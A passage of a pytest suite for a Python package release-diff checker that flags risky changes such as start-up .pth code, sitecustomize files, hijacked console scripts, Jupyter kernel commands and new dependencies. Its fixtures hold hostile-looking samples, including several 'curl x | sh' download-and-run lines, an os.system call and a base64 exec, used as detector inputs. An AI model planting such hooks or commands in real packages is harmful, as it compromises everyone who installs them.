"""Notable changes: each kind found as sdist and as wheel, and nothing in a benign release."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path

import pytest

from sphinxext.releasediff import notable
from sphinxext.releasediff.archive import Limits, read_archive
from sphinxext.releasediff.compare import CompareOptions, changes_by_status, compare, member_pairs
from sphinxext.releasediff.model import NOTABLE_KINDS, Archive, Notable
from sphinxext.releasediff.notable import exec_notables, native_format

from .archives import Entry, Tree, make_sdist, make_wheel

DISTS = ("sdist", "wheel")
CORE = '''"""Core helpers."""

import subprocess


def run(command):
    """Run a command."""
    return subprocess.run(command, check=True)


def add(a, b):
    return a + b
'''
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"\x90" * 100
PE = b"MZ" + b"\x00" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 60
MACHO = b"\xcf\xfa\xed\xfe" + b"\x00" * 60


def find(
    tmp_path: Path,
    old: Tree,
    new: Tree,
    dist: str = "sdist",
    old_metadata: tuple[str, ...] = (),
    new_metadata: tuple[str, ...] = (),
    old_entry_points: str = "",
    new_entry_points: str = "",
) -> list[tuple[str, str | None, str]]:
    (tmp_path / "o").mkdir(parents=True)
    (tmp_path / "n").mkdir(parents=True)
    if dist == "wheel":
        old_path = make_wheel(
            tmp_path / "o", "demo", "1.0", old, old_metadata, entry_points=old_entry_points
        )
        new_path = make_wheel(
            tmp_path / "n", "demo", "1.1", new, new_metadata, entry_points=new_entry_points
        )
    else:
        old_path = make_sdist(tmp_path / "o", "demo", "1.0", old, metadata=old_metadata)
        new_path = make_sdist(tmp_path / "n", "demo", "1.1", new, metadata=new_metadata)
    old_archive, new_archive = read_archive(old_path), read_archive(new_path)
    comparison = compare(old_archive, new_archive)
    _assert_exec_alone_finds_the_same(old_archive, new_archive, comparison.notable)
    return [(n.kind, n.path, n.detail) for n in comparison.notable]


def _assert_exec_alone_finds_the_same(old: Archive, new: Archive, found: Sequence[Notable]) -> None:
    """The exec check run alone from the pairs' members and status, as the worker that read
    OLD runs it (exec_worker), finds what the whole comparison does."""
    changes = changes_by_status(member_pairs(old, new, CompareOptions()))
    alone = sorted(
        dict.fromkeys(exec_notables(old, new, changes)), key=lambda n: (n.path or "", n.detail)
    )
    assert alone == [entry for entry in found if entry.kind == "exec"]


def benign_sdist(version: str) -> dict[str, str]:
    newer = version != "1.0"
    return {
        "setup.py": (
            "from setuptools import setup\n\n"
            f"# Released {version}\nsetup(name='demo', version='{version}')\n"
        ),
        "setup.cfg": (
            f"[metadata]\nname = demo\nversion = {version}\n\n"
            f"[flake8]\nmax-line-length = {100 if newer else 88}\n"
        ),
        "pyproject.toml": (
            '[build-system]\nrequires = ["setuptools>=61"]\n'
            'build-backend = "setuptools.build_meta"\n\n'
            f'[project]\nname = "demo"\nversion = "{version}"\n\n'
            '[project.scripts]\ndemo = "demo.cli:main"\n'
        ),
        "CMakeLists.txt": f"project(demo VERSION {version})\nadd_library(demo demo.c)\n",
        "LICENSE": f"Copyright (c) 2019-{2024 if newer else 2023} Demo authors\n\nMIT terms.\n",
        "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n",
        "demo.pth": "import demo_hook\n",
        **benign_package(version),
        "tests/test_core.py": "import subprocess\n\n"
        + ("def test_run():\n    subprocess.run(['true'])\n" if newer else ""),
        "docs/conf.py": f"release = '{version}'\n"
        + ("import os\nos.system('make html')\n" if newer else ""),
    }


def benign_package(version: str) -> dict[str, str]:
    newer = version != "1.0"
    core = CORE
    if newer:
        core = core.replace('"""Run a command."""', '"""Run a command and wait for it."""')
        core = core.replace("return a + b", "total = a + b\n    return total")
    return {
        "demo/__init__.py": f'"""Demo."""\n\n__version__ = "{version}"\n',
        "demo/core.py": core,
        "demo/lib.so": "not really a library\n",
    }


PKG_META = (
    "Requires-Python: >=3.9",
    "License: MIT",
    "Classifier: License :: OSI Approved :: MIT License",
    "Requires-Dist: attrs>=22",
    "Requires-Dist: demo-core==1.0",
)


def test_benign_sdist_release_has_nothing_notable(tmp_path: Path) -> None:
    new_meta = tuple(m.replace("demo-core==1.0", "demo-core==1.1") for m in PKG_META)
    assert (
        find(tmp_path, benign_sdist("1.0"), benign_sdist("1.1"), "sdist", PKG_META, new_meta) == []
    )


def test_benign_wheel_release_has_nothing_notable(tmp_path: Path) -> None:
    old = {**benign_package("1.0"), "demo-1.0.dist-info/LICENSE": "Copyright 2023 Demo\n"}
    new = {**benign_package("1.1"), "demo-1.1.dist-info/LICENSE": "Copyright 2024 Demo\n"}
    entry_points = "[console_scripts]\ndemo = demo.cli:main\n"
    assert find(tmp_path, old, new, "wheel", PKG_META, PKG_META, entry_points, entry_points) == []


@pytest.mark.parametrize("dist", DISTS)
def test_pth_import_lines(tmp_path: Path, dist: str) -> None:
    old = {"keep.pth": "src\n", "hook.pth": "import os\n"}
    new = {
        "keep.pth": "src\n# import nothing\nimport\tsite_hook; site_hook.run()\n",
        "hook.pth": "import os\n",
        "paths.pth": "lib\n",
        "evil.pth": "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\nimport b\n",
    }
    assert find(tmp_path, old, new, dist) == [
        (
            "pth",
            "evil.pth",
            "new .pth file runs code at start-up: "
            "import base64; exec(base64.b64decode('cHJpbnQoMSk=')) (and 1 more import lines)",
        ),
        (
            "pth",
            "keep.pth",
            ".pth file changed, runs code at start-up: import site_hook; site_hook.run()",
        ),
    ]


def test_a_wheels_pth_in_a_package_folder_is_said_not_to_run_at_start_up(
    tmp_path: Path,
) -> None:
    """site reads the .pth files of site-packages itself, not of the folders below it."""
    new = {"demo/__init__.py": "", "demo/hook.pth": "import os; os.system('id')\n"}
    assert find(tmp_path, {"demo/__init__.py": ""}, new, "wheel") == [
        (
            "pth",
            "demo/hook.pth",
            "new .pth file in a package folder, run only if the folder is made a site dir: "
            "import os; os.system('id')",
        )
    ]


HOOK = "import os; os.system('curl x | sh')\nimport site\nlib\n"
RUNNER = '"""Set up."""\nimport subprocess\n\nsubprocess.run(["sh", "-c", "curl x | sh"])\n'


def test_a_file_moved_unchanged_into_a_place_that_runs_it_is_as_new(tmp_path: Path) -> None:
    """A rename carries no history into a new role: data moved to a .pth at a wheel's root,
    a subfolder's .pth (never read by site) moved there, a tool moved to setup.py, a test
    helper moved into the package, a file moved into .data/scripts/."""
    old = {
        "demo/data/hook.txt": HOOK,
        "demo/templates/inner.pth": HOOK.replace("curl x", "curl y"),
        "tools/make_setup.py": RUNNER,
        "tests/helper_bootstrap.py": RUNNER.replace("curl x", "curl z"),
        "demo/tool.txt": "#!/bin/sh\ncurl x | sh\necho done\n",
    }
    new = {
        "zzz_demo.pth": HOOK,
        "demo-inner.pth": HOOK.replace("curl x", "curl y"),
        "setup.py": RUNNER,
        "demo/bootstrap.py": RUNNER.replace("curl x", "curl z"),
        "demo-1.1.data/scripts/demo-tool": "#!/bin/sh\ncurl x | sh\necho done\n",
    }
    wheel = find(tmp_path / "wheel", old, new, "wheel")
    assert wheel == [
        (
            "pth",
            "demo-inner.pth",
            "new .pth file runs code at start-up: import os; "
            "os.system('curl y | sh') (and 1 more import lines)",
        ),
        (
            "pth",
            "zzz_demo.pth",
            "new .pth file runs code at start-up: import os; "
            "os.system('curl x | sh') (and 1 more import lines)",
        ),
        (
            "entry-point",
            "demo-1.1.data/scripts/demo-tool",
            "script added: demo-tool (installed on PATH)",
        ),
        ("exec", "demo/bootstrap.py", "subprocess.run() runs a command (line 4)"),
    ]
    sdist = find(tmp_path / "sdist", old, new, "sdist")
    assert ("build", "setup.py", "build script added") in sdist
    assert ("exec", "demo/bootstrap.py", "subprocess.run() runs a command (line 4)") in sdist
    # tools/ is shipped code too: the wheel's setup.py was there before.
    # Moved within one role, unchanged, a file is no news.
    moved = {"demo/other.py": RUNNER, "hook.pth": HOOK}
    kept = {"demo/elsewhere.py": RUNNER, "renamed.pth": HOOK}
    assert find(tmp_path / "kept", moved, kept, "wheel") == []


NSPKG = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'demo')\n"


def test_only_the_wheels_own_folders_and_nspkg_file_pair_across_versions(tmp_path: Path) -> None:
    """A second NAME-VER-pyX.Y-nspkg.pth, or a second .dist-info folder, is a file of its
    own: it neither vanishes onto the wheel's own key nor stands in for it."""
    old = {**benign_package("1.0"), "demo-1.0-py3.11-nspkg.pth": NSPKG}
    new = {
        **benign_package("1.1"),
        "demo-1.1-py3.11-nspkg.pth": NSPKG,
        "aaa_boot-0-py3-nspkg.pth": "import os; os.system('curl x | sh')\n",
        "aaa-0.dist-info/METADATA": "Metadata-Version: 2.1\nName: aaa\nVersion: 0\n",
        "aaa-0.dist-info/entry_points.txt": "[console_scripts]\npip = demo.cli:main\n",
    }
    decoy = "[console_scripts]\ndemo = demo.cli:main\npip = demo._evil:main\n"
    old["a/_vendor.dist-info/entry_points.txt"] = new["a/_vendor.dist-info/entry_points.txt"] = (
        decoy
    )
    found = find(
        tmp_path,
        old,
        new,
        "wheel",
        new_metadata=("Requires-Dist: evil",),
        old_entry_points="[console_scripts]\ndemo = demo.cli:main\n",
        new_entry_points="[console_scripts]\ndemo = demo._evil:main\npip = demo._evil:main\n",
    )
    assert found == [
        (
            "pth",
            "aaa_boot-0-py3-nspkg.pth",
            "new .pth file runs code at start-up: import os; os.system('curl x | sh')",
        ),
        (
            "entry-point",
            "demo-1.1.dist-info/entry_points.txt",
            "console script added: pip = demo._evil:main",
        ),
        (
            "entry-point",
            "demo-1.1.dist-info/entry_points.txt",
            "console script target changed: demo = demo.cli:main → demo._evil:main",
        ),
        ("dependency", None, "requirement added: evil"),
    ]


def test_a_marker_packaging_cannot_evaluate_is_a_requirement_users_may_get(
    tmp_path: Path,
) -> None:
    """``python_version ~= "3"``: no version ``~=`` takes; it used to stop the command."""
    line = 'Requires-Dist: foo; extra == "tests" and python_version ~= "3"'
    assert find(tmp_path, {}, {}, "wheel", new_metadata=(line,)) == [
        ("dependency", None, 'requirement added: foo; extra == "tests" and python_version ~= "3"'),
    ]


def test_a_source_too_large_to_parse_is_reported_not_checked(tmp_path: Path) -> None:
    """A parse costs some 300 times the text in memory (4 MiB of calls: 1.4 GB)."""
    big = "import os\n" + "os.system(a, b, c, d)\n" * 60_000
    assert len(big) > notable._MAX_PARSED
    assert find(tmp_path, {"demo/big.py": "x = 1\n"}, {"demo/big.py": big}, "wheel") == [
        ("exec", "demo/big.py", "not checked: over the 1 MiB it parses"),
    ]


def test_a_link_is_checked_as_the_file_it_leads_to_in_the_place_of_the_link(
    tmp_path: Path,
) -> None:
    """setup.py -> ci/impl.py runs ci/impl.py; a module linked to a template is built from it."""
    old = {"setup.py": "from setuptools import setup\nsetup()\n", "ci/impl.py": "x = 1\n"}
    new: Tree = {
        "setup.py": Entry(kind="symlink", target="ci/impl.py"),
        "ci/impl.py": "x = 1\n",
        "data/init.tmpl": RUNNER,
        "demo/__init__.py": Entry(kind="symlink", target="../data/init.tmpl"),
    }
    assert find(tmp_path, old, new) == [
        ("build", "setup.py", "build script changed"),
        ("exec", "demo/__init__.py", "subprocess.run() runs a command (line 4)"),
    ]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("setup.cfg", "[options.entry_points]\nconsole_scripts =\n    pip = demo.cli:main\n"),
        (
            "setup.py",
            "from setuptools import setup\n"
            "setup(entry_points={'console_scripts': ['pip = demo.cli:main']})\n",
        ),
        ("pyproject.toml", "[tool.poetry.scripts]\npip = 'demo.cli:main'\n"),
        ("pyproject.toml", "[tool.poetry.scripts]\npip = {callable = 'demo.cli:main'}\n"),
        ("pyproject.toml", "[tool.flit.scripts]\npip = 'demo.cli:main'\n"),
    ],
    ids=["setup.cfg", "setup.py", "poetry", "poetry table", "flit"],
)
def test_an_sdists_build_configuration_declares_entry_points(
    tmp_path: Path, path: str, text: str
) -> None:
    """The build writes these into the wheel's entry_points.txt: a script named pip."""
    found = find(tmp_path, {"demo/__init__.py": ""}, {"demo/__init__.py": "", path: text})
    assert ("entry-point", path, "console script added: pip = demo.cli:main") in found
    assert all(
        entry[0] != "build" or entry[2] != "setuptools configuration added: [options.entry_points]"
        for entry in found
    )


def test_poetry_and_flit_plugins_are_entry_points(tmp_path: Path) -> None:
    poetry = "[tool.poetry.plugins.pytest11]\ndemo = 'demo.plugin'\n"
    flit = "[tool.flit.entrypoints.'flake8.extension']\nD = 'demo.lint:Checker'\n"
    new = {"demo/__init__.py": "", "pyproject.toml": poetry + flit}
    assert find(tmp_path, {"demo/__init__.py": ""}, new) == [
        (
            "entry-point",
            "pyproject.toml",
            "entry point [flake8.extension] added: D = demo.lint:Checker",
        ),
        ("entry-point", "pyproject.toml", "entry point [pytest11] added: demo = demo.plugin"),
    ]


def test_a_wheels_files_in_the_standard_librarys_folder(tmp_path: Path) -> None:
    """The data scheme is the prefix: outside a virtual environment lib/python3.X is the
    standard library's folder, on sys.path before site-packages."""
    std = "demo-1.1.data/data/lib/python3.11/"
    new = {
        "demo/__init__.py": "",
        f"{std}sitecustomize.py": "import demo\n",
        f"{std}json/__init__.py": "import demo\n",
        f"{std}helper.py": "x = 1\n",
        f"{std}site-packages/demo_extra.py": "x = 1\n",  # site-packages: a plain module
        "demo-1.1.data/data/share/demo/notes.txt": "x\n",
    }
    assert find(tmp_path, {"demo/__init__.py": ""}, new, "wheel") == [
        (
            "pth",
            f"{std}helper.py",
            "helper.py added in the standard library's folder: outside a virtual "
            "environment it is importable before site-packages",
        ),
        (
            "pth",
            f"{std}json/__init__.py",
            "json/__init__.py added in the standard library's folder: outside a virtual "
            "environment it is imported in place of the standard module json",
        ),
        (
            "pth",
            f"{std}sitecustomize.py",
            "sitecustomize.py added: site imports it at every interpreter start",
        ),
    ]


JUPYTER_SERVER = "demo-{0}.data/data/etc/jupyter/jupyter_server_config.d/demo.json"
JUPYTER_KERNEL = "demo-{0}.data/data/share/jupyter/kernels/demo/kernel.json"


def test_jupyter_configuration_a_wheel_installs(tmp_path: Path) -> None:
    """Jupyter imports the server extensions its config.d files enable at every start,
    and runs a kernel spec's argv when the kernel is picked."""
    old = {
        "demo/__init__.py": "",
        JUPYTER_SERVER.format("1.0"): '{"ServerApp": {"jpserver_extensions": {"demo": true}}}',
        JUPYTER_KERNEL.format("1.0"): '{"argv": ["python", "-m", "demo.kernel"]}',
    }
    new = {
        "demo/__init__.py": "",
        JUPYTER_SERVER.format("1.1"): (
            '{"ServerApp": {"jpserver_extensions": {"demo": true, "demo._ext": true}}}'
        ),
        JUPYTER_KERNEL.format("1.1"): '{"argv": ["sh", "-c", "curl x | sh"]}',
        "demo-1.1.data/data/etc/jupyter/nbconfig/notebook.d/demo.json": (
            '{"load_extensions": {"demo/main": true, "demo/off": false}}'
        ),
        "demo-1.1.data/data/etc/jupyter/jupyter_notebook_config.d/x.json": "{not json",
        "demo-1.1.data/data/share/jupyter/kernels/other/kernel.json": '{"argv": ["demo-k"]}',
    }
    assert find(tmp_path, old, new, "wheel") == [
        (
            "entry-point",
            "demo-1.1.data/data/etc/jupyter/jupyter_notebook_config.d/x.json",
            "Jupyter configuration added, not valid JSON (read when Jupyter starts)",
        ),
        (
            "entry-point",
            JUPYTER_SERVER.format("1.1"),
            "Jupyter extension enabled: demo._ext (imported when Jupyter starts)",
        ),
        (
            "entry-point",
            "demo-1.1.data/data/etc/jupyter/nbconfig/notebook.d/demo.json",
            "Jupyter extension enabled: demo/main (imported when Jupyter starts)",
        ),
        (
            "entry-point",
            JUPYTER_KERNEL.format("1.1"),
            "Jupyter kernel command changed: demo runs sh -c curl x | sh",
        ),
        (
            "entry-point",
            "demo-1.1.data/data/share/jupyter/kernels/other/kernel.json",
            "Jupyter kernel added: other runs demo-k",
        ),
    ]


def test_jupyter_and_ipython_configuration_outside_config_d(tmp_path: Path) -> None:
    """Jupyter reads etc/jupyter/*.json and runs *_config.py; IPython, and so every
    ipykernel, runs etc/ipython's config and its profiles' startup files."""
    data = "demo-1.1.data/data/etc/"
    new = {
        "demo/__init__.py": "",
        f"{data}jupyter/jupyter_server_config.json": (
            '{"ServerApp": {"jpserver_extensions": {"demo._ext": true}}}'
        ),
        f"{data}jupyter/jupyter_server_config.py": "c.ServerApp.jpserver_extensions = {}\n",
        f"{data}ipython/ipython_config.py": "c.InteractiveShellApp.exec_lines = ['import demo']\n",
        f"{data}ipython/profile_default/startup/00-demo.py": "import demo\n",
    }
    assert find(tmp_path, {"demo/__init__.py": ""}, new, "wheel") == [
        (
            "entry-point",
            f"{data}ipython/ipython_config.py",
            "IPython configuration added: Python it runs at every start",
        ),
        (
            "entry-point",
            f"{data}ipython/profile_default/startup/00-demo.py",
            "IPython configuration added: Python it runs at every start",
        ),
        (
            "entry-point",
            f"{data}jupyter/jupyter_server_config.json",
            "Jupyter extension enabled: demo._ext (imported when Jupyter starts)",
        ),
        (
            "entry-point",
            f"{data}jupyter/jupyter_server_config.py",
            "Jupyter configuration added: Python it runs at every start",
        ),
    ]


def test_jupyter_configuration_laid_out_anew_is_no_change(tmp_path: Path) -> None:
    config = {"ServerApp": {"jpserver_extensions": {"demo": True}}}
    old = {"jupyter-config/jupyter_server_config.d/demo.json": json.dumps(config)}
    new = {"jupyter-config/jupyter_server_config.d/demo.json": json.dumps(config, indent=4)}
    assert find(tmp_path, old, new) == []
    new = {"jupyter-config/jupyter_server_config.d/demo.json": '{"ServerApp": {}}'}
    assert find(tmp_path / "changed", old, new) == [
        (
            "entry-point",
            "jupyter-config/jupyter_server_config.d/demo.json",
            "Jupyter configuration changed (read when Jupyter starts)",
        )
    ]


def test_start_up_modules_scripts_and_sourceless_bytecode_in_a_wheel(tmp_path: Path) -> None:
    """site imports sitecustomize at every start; a #!python script on PATH is code; a .pyc
    with no source is imported and cannot be read."""
    old = {"demo-1.0.data/scripts/demo-run": "#!python\nprint(1)\n"}
    new: Tree = {
        "sitecustomize.py": "import demo\n",
        "demo-1.1.data/purelib/usercustomize.py": "import demo\n",
        "demo/sub/sitecustomize.py": "x = 1\n",
        "demo-1.1.data/scripts/demo-run": "#!python\n" + RUNNER,
        "demo-1.1.data/scripts/demo-sh": "#!/bin/sh\nos.system(x)\nexec(x)\n",
        "demo/helper.pyc": b"\xcb\r\r\n" + b"\x00" * 12,
        "demo/mod.py": "x = 1\n",
        "demo/mod.pyc": b"\xcb\r\r\n" + b"\x00" * 12,
    }
    assert find(tmp_path, old, new, "wheel") == [
        (
            "pth",
            "demo-1.1.data/purelib/usercustomize.py",
            "usercustomize.py added: site imports it at every interpreter start",
        ),
        (
            "pth",
            "sitecustomize.py",
            "sitecustomize.py added: site imports it at every interpreter start",
        ),
        (
            "entry-point",
            "demo-1.1.data/scripts/demo-sh",
            "script added: demo-sh (installed on PATH)",
        ),
        ("exec", "demo-1.1.data/scripts/demo-run", "subprocess.run() runs a command (line 5)"),
        (
            "exec",
            "demo/helper.pyc",
            "bytecode without its source: Python imports it, it is not checked",
        ),
    ]


def _zip_holding(names: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as nested:
        for name, text in names.items():
            nested.writestr(name, text)
    return buffer.getvalue()


def test_start_up_code_without_an_import_line_in_a_wheel(tmp_path: Path) -> None:
    """site imports sitecustomize however it is found: a package, an extension module, a
    folder or a zip a .pth path line puts on sys.path; a .pth in .data's site-packages is
    read at start-up as one at the root."""
    new: Tree = {
        "sitecustomize/__init__.py": "import demo\n",
        "usercustomize.cpython-311-x86_64-linux-gnu.so": ELF,
        "demo-1.1.data/data/lib/python3.11/site-packages/boot.pth": "import demo._boot\n",
        "paths.pth": "# vendored\ndemo/_vendor\ndemo/_plain\n",
        "demo/_vendor/sitecustomize.py": "import os\n",
        "demo/_plain/helper.py": "x = 1\n",
        "zipped.pth": "demo/_data.zip\n",
        "demo/_data.zip": _zip_holding({"sitecustomize.py": "import os\n"}),
        "plainzip.pth": "demo/_lib.zip\n",
        "demo/_lib.zip": _zip_holding({"lib.py": "x = 1\n"}),
        "two.pth": "import _compat\nimport os; os.system('curl x | sh')\n",
    }
    on_path = "puts start-up code on sys.path"
    every_start = "at every interpreter start"
    assert find(tmp_path, {}, new, "wheel") == [
        (
            "pth",
            "demo-1.1.data/data/lib/python3.11/site-packages/boot.pth",
            "new .pth file runs code at start-up: import demo._boot",
        ),
        (
            "pth",
            "paths.pth",
            f"new .pth file {on_path}: demo/_vendor (site imports sitecustomize.py from there "
            f"{every_start})",
        ),
        (
            "pth",
            "sitecustomize/__init__.py",
            f"sitecustomize/__init__.py added: site imports it {every_start}",
        ),
        (
            "pth",
            "two.pth",
            "new .pth file runs code at start-up: import os; os.system('curl x | sh') "
            "(and 1 more import lines)",
        ),
        (
            "pth",
            "usercustomize.cpython-311-x86_64-linux-gnu.so",
            f"usercustomize.cpython-311-x86_64-linux-gnu.so added: site imports it {every_start}",
        ),
        (
            "pth",
            "zipped.pth",
            f"new .pth file {on_path}: demo/_data.zip (site imports sitecustomize.py from "
            f"there {every_start})",
        ),
        (
            "binary",
            "usercustomize.cpython-311-x86_64-linux-gnu.so",
            "new native binary (ELF, 164 bytes)",
        ),
    ]


def test_start_up_modules_in_an_sdist_source_root(tmp_path: Path) -> None:
    """``package_dir = {"": "lib"}`` installs lib/sitecustomize.py at the top; one inside a
    package or a test folder is not installed there."""
    old = {"lib/demo/__init__.py": "", "lib/sitecustomize.py": "x = 1\n"}
    new = {
        "lib/demo/__init__.py": "",
        "lib/sitecustomize.py": "import demo\n",
        "lib/demo/sitecustomize.py": "import demo\n",
        "tests/sitecustomize.py": "import demo\n",
    }
    assert find(tmp_path, old, new) == [
        (
            "pth",
            "lib/sitecustomize.py",
            "sitecustomize.py changed: site imports it at every interpreter start",
        )
    ]


@pytest.mark.parametrize(
    "line",
    [
        "sys.meta_path[:0] = [Finder()]",
        "sys.meta_path += [Finder()]",
        "sys.path_hooks = [hook, *sys.path_hooks]",
    ],
)
def test_an_import_hook_installed_with_no_call(tmp_path: Path, line: str) -> None:
    hooks = line.split(" ", 1)[0].split("[", 1)[0]
    new = {"demo/__init__.py": f"import sys\nfrom ._f import Finder, hook\n{line}\n"}
    assert find(tmp_path, {"demo/__init__.py": "import sys\n"}, new) == [
        ("exec", "demo/__init__.py", f"{hooks}() installs an import hook (line 3)")
    ]
    # Read, not changed: no hook.
    reads = {"demo/__init__.py": "import sys\nfirst = sys.meta_path[0]\n"}
    assert find(tmp_path / "reads", {"demo/__init__.py": "import sys\n"}, reads) == []


def test_a_long_detail_is_whole_or_says_how_much_is_cut(tmp_path: Path) -> None:
    """A .pth payload padded to 600 characters was cut at 100: the os.system was lost."""
    padded = "import os; " + "x=1; " * 120 + "os.system('curl x | sh')"
    longer = "import os; " + "x=1; " * 300 + "os.system('curl x | sh')"
    found = find(tmp_path, {}, {"a.pth": padded + "\n", "b.pth": longer + "\n"}, "wheel")
    details = {path: detail for _kind, path, detail in found}
    assert details["a.pth"] == f"new .pth file runs code at start-up: {padded}"
    assert details["b.pth"] == (
        f"new .pth file runs code at start-up: {longer[:1000]}… "
        f"({len(longer) - 1000:,} more characters: see the diff)"
    )


@pytest.mark.parametrize(
    ("call", "detail"),
    [
        ("pickle.loads(blob)", "pickle.loads() loads a pickle, which can run any code (line 2)"),
        ("ctypes.CDLL(path)", "ctypes.CDLL() loads a native library (line 2)"),
        ("socket.getaddrinfo(host, 443)", "socket.getaddrinfo() reaches the network (line 2)"),
        ("webbrowser.open(url)", "webbrowser.open() reaches the network (line 2)"),
        ("_pickle.loads(blob)", "_pickle.loads() loads a pickle, which can run any code (line 2)"),
        (
            "pickle._Unpickler(f).load()",
            "pickle._Unpickler() loads a pickle, which can run any code (line 2)",
        ),
        ("imp.load_source('x', path)", "imp.load_source() loads Python code from a file (line 2)"),
        ("_ctypes.dlopen(path)", "_ctypes.dlopen() loads a native library (line 2)"),
        (
            "importlib.machinery.ExtensionFileLoader('x', path)",
            "importlib.machinery.ExtensionFileLoader() loads a native library (line 2)",
        ),
        (
            "urllib.request.URLopener().open(url)",
            "urllib.request.URLopener() reaches the network (line 2)",
        ),
        (
            "multiprocessing.util.spawnv_passfds('/bin/sh', args, ())",
            "multiprocessing.util.spawnv_passfds() runs a command (line 2)",
        ),
        ("pydoc.pager(text)", "pydoc.pager() runs a command (line 2)"),
    ],
)
def test_loads_that_run_code_and_more_network_calls(tmp_path: Path, call: str, detail: str) -> None:
    module_name = call.partition(".")[0]
    new = {"demo/core.py": f"import {module_name}\n{call}\n"}
    assert find(tmp_path, {"demo/core.py": "x = 1\n"}, new, "wheel") == [
        ("exec", "demo/core.py", detail)
    ]


def test_an_sdists_project_table_counts_where_its_pkg_info_does_not_say(tmp_path: Path) -> None:
    """The wheel built from an sdist takes [project] from pyproject.toml, not a stale PKG-INFO."""

    def pyproject(dependencies: str, python: str) -> dict[str, str]:
        table = f'[project]\nname = "demo"\nrequires-python = "{python}"\n'
        table += f"dependencies = [{dependencies}]\n"
        table += "[project.optional-dependencies]\nsocks = [\"pysocks; os_name == 'nt'\"]\n"
        return {"pyproject.toml": table}

    old = pyproject('"attrs>=22"', ">=3.8")
    new = pyproject('"attrs>=22", "evil @ https://example.invalid/e.whl"', ">=2.7")
    new["pyproject.toml"] = new["pyproject.toml"].replace("pysocks;", "pysocks>=1;")
    assert find(tmp_path / "stale", old, new, "sdist", PKG_META, PKG_META) == [
        (
            "dependency",
            "pyproject.toml",
            "direct URL reference added: evil @ https://example.invalid/e.whl",
        ),
        (
            "dependency",
            "pyproject.toml",
            'requirement changed (specifier): pysocks; os_name == "nt" and extra == "socks" → '
            'pysocks>=1; os_name == "nt" and extra == "socks"',
        ),
        ("python", "pyproject.toml", "Requires-Python: >=3.8 → >=2.7"),
    ]
    # Said once when PKG-INFO says it too.
    said = (*PKG_META, "Requires-Dist: evil @ https://example.invalid/e.whl")
    found = find(tmp_path / "said", old, new, "sdist", PKG_META, said)
    assert (
        "dependency",
        None,
        "direct URL reference added: evil @ https://example.invalid/e.whl",
    ) in found
    assert [path for _kind, path, detail in found if "evil" in detail] == [None]


def test_a_call_once_quoted_in_a_docstring_is_still_an_added_call(tmp_path: Path) -> None:
    old = {"demo/core.py": '"""Run it:\n\n    os.system(cmd)\n"""\nimport os\n'}
    new = {"demo/core.py": '"""Run it."""\nimport os\n\ncmd = "sh"\n    \nos.system(cmd)\n'}
    assert find(tmp_path, old, new, "wheel") == [
        ("exec", "demo/core.py", "os.system() runs a command (line 6)")
    ]


def test_a_file_landing_in_the_prefix_bin_folder_is_a_script(tmp_path: Path) -> None:
    """A wheel's .data/data/bin/pip is installed as <prefix>/bin/pip, over pip itself."""
    new = {"demo-1.1.data/data/bin/pip": "#!/bin/sh\ncurl x | sh\n"}
    assert find(tmp_path, {}, new, "wheel") == [
        ("entry-point", "demo-1.1.data/data/bin/pip", "script added: pip (installed on PATH)"),
    ]


def test_a_wheels_namespace_pth_named_with_the_version_pairs_across_versions(
    tmp_path: Path,
) -> None:
    """setuptools names it NAME-VER-pyX.Y-nspkg.pth (zope.interface 6.4 -> 7.0): the same
    line under a new version's name is no new .pth; a changed one is a changed .pth."""
    old = {**benign_package("1.0"), "demo-1.0-py3.11-nspkg.pth": NSPKG}
    new = {**benign_package("1.1"), "demo-1.1-py3.11-nspkg.pth": NSPKG}
    assert find(tmp_path / "same", old, new, "wheel") == []
    new["demo-1.1-py3.11-nspkg.pth"] = NSPKG + "import evil\n"
    assert find(tmp_path / "changed", old, new, "wheel") == [
        (
            "pth",
            "demo-1.1-py3.11-nspkg.pth",
            ".pth file changed, runs code at start-up: import evil",
        ),
    ]


@pytest.mark.parametrize("dist", DISTS)
def test_entry_points(tmp_path: Path, dist: str) -> None:
    old_eps = "[console_scripts]\ndemo = demo.cli:main\ngone = demo.gone:main\n"
    new_eps = (
        "[console_scripts]\ndemo = demo.commands : main\nskyline = skyline.cli:main\n"
        "[gui_scripts]\ndemo-gui = demo.gui:main\n"
        "[demo.plugins]\nx = demo.x\n"
    )
    if dist == "wheel":
        found = find(tmp_path, {}, {}, dist, old_entry_points=old_eps, new_entry_points=new_eps)
        where = "demo-1.1.dist-info/entry_points.txt"
    else:
        old = {"demo.egg-info/entry_points.txt": old_eps}
        found = find(tmp_path, old, {"demo.egg-info/entry_points.txt": new_eps}, dist)
        where = "demo.egg-info/entry_points.txt"
    assert found == [
        ("entry-point", where, "GUI script added: demo-gui = demo.gui:main"),
        ("entry-point", where, "console script added: skyline = skyline.cli:main"),
        (
            "entry-point",
            where,
            "console script target changed: demo = demo.cli:main → demo.commands:main",
        ),
        ("entry-point", where, "entry point [demo.plugins] added: x = demo.x"),
    ]


ENTRY_POINTS_AS_IMPORTERS_READ = [
    pytest.param(
        "[console_scripts]\ndemo = demo.cli:main\n",
        "made by demo-build\n[console_scripts]\ndemo = demo.cli:main\npip = demo.cli:main\n",
        ["console script added: pip = demo.cli:main"],
        id="text before the first section is skipped, not the whole file",
    ),
    pytest.param(
        "[pytest11]\n",
        "[pytest11]\n;demo = demo.cli\n# demo = demo.other\n",
        ["entry point [pytest11] added: ;demo = demo.cli"],
        id="a semicolon starts a name, not a comment",
    ),
    pytest.param(
        "[pytest11]\ndemo = demo.plugin\n",
        "[pytest11]\ndemo = demo.evil\ndemo = demo.plugin\n",
        [
            "entry point [pytest11] target changed: demo = demo.plugin → "
            "demo.evil (declared again as demo.plugin)"
        ],
        id="a name declared twice has both targets, the first first",
    ),
    pytest.param(
        "[console_scripts]\ndemo = demo.cli:main\n",
        "[console_scripts]\ndemo = demo.cli:main\n    ls = demo.cli:main\n",
        ["console script added: ls = demo.cli:main"],
        id="an indented line is an entry of its own",
    ),
    pytest.param(
        "[console_scripts]\ndemo = demo.cli:main\n",
